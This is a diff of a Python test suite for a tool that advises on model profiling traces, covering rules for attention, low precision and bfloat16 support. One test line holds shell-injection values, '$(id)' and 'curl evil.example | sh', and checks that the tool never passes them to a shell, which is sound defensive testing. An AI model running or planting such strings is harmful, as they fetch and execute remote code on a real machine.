@@ -94,8 +94,8 @@ def test_unfused_attention_on_a_device_counts_what_the_ops_launched(tmp_path: Pa
     # The wait ends at 71 and would begin at 1, less the 0.27 ms of the three ops.
     assert ceiling_ms(finding) == 71 - 1 + 0.27
     unlinked = request().kernel("softmax_warp_forward", 0, 50 * MS)
-    (lacking,) = found(waiting(unlinked, 1, 50), tmp_path).abstentions
-    assert (lacking.rule, lacking.record) == ("unfused_attention", "the CPU's ops too")
+    lacking = {each.rule: each.record for each in found(waiting(unlinked, 1, 50), tmp_path).abstentions}
+    assert lacking["unfused_attention"] == "the CPU's ops too"
 
 
 def test_data_loader(tmp_path: Path) -> None:
@@ -172,6 +172,12 @@ def test_low_precision(tmp_path: Path) -> None:
     settings = ["--set", "dtype=$(id),bfloat16", "--set", "model=x; curl evil.example | sh #", "--set", "device=cpu"]
     assert words == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
     assert "low_precision" not in rules(products("bfloat16"), tmp_path)
+    for known, missing in ((False, "this CPU (A CPU) has no instructions for bfloat16"), (None, "isn't recorded")):
+        environment = replace(METADATA.environment, cpu_bfloat16=known)
+        run = replace(METADATA.run, dtype="float32")
+        advice = found(products("float32").metadata(replace(METADATA, run=run, environment=environment)), tmp_path)
+        assert "low_precision" not in [finding.rule for finding in advice.findings]
+        assert [missing in each.missing for each in advice.abstentions if each.rule == "low_precision"] == [True]
     foreign = request().span(**product("float", "float"))
     assert ceiling_ms(one(foreign, tmp_path, "low_precision")) == 60
     foreign = request().span(**product("c10::BFloat16", "c10::BFloat16"))
@@ -286,10 +292,10 @@ def test_cpu_threads(tmp_path: Path) -> None:
 
 
 def test_every_rule_is_tested_and_says_where_it_is_from() -> None:
-    text = Path(__file__).read_text()
+    text = "".join(path.read_text() for path in sorted(Path(__file__).parent.glob("test_*.py")))
     assert [rule.name for rule in RULES if f'"{rule.name}"' not in text] == []
     assert all(rule.source for rule in RULES)
-    assert len({rule.name for rule in RULES}) == len(RULES) >= 19
+    assert len({rule.name for rule in RULES}) == len(RULES) >= 30
 
 
 EXPECTED = {
@@ -332,6 +338,9 @@ def test_owlv2s_ceilings_are_what_its_kernels_take(corpus: Path) -> None:
 def test_our_own_captures_are_advised_what_they_lack() -> None:
     for folder, with_pillow in (("sample-tiny-cpu-pil", True), ("sample-tiny-cpu-torchvision", False)):
         (path,) = (SAMPLES / folder).glob("*.json.gz")
-        names = [finding.rule for finding in advise(real_trace(path)).findings]
+        advice = advise(real_trace(path))
+        names = [finding.rule for finding in advice.findings]
         assert ("image_processor" in names) is with_pillow
-        assert names[0] == "low_precision"
+        assert (names[0] == "image_processor") is with_pillow
+        assert "low_precision" not in names  # they are from before it was recorded whether the CPU knows bfloat16
+        assert "low_precision" in [each.rule for each in advice.abstentions]
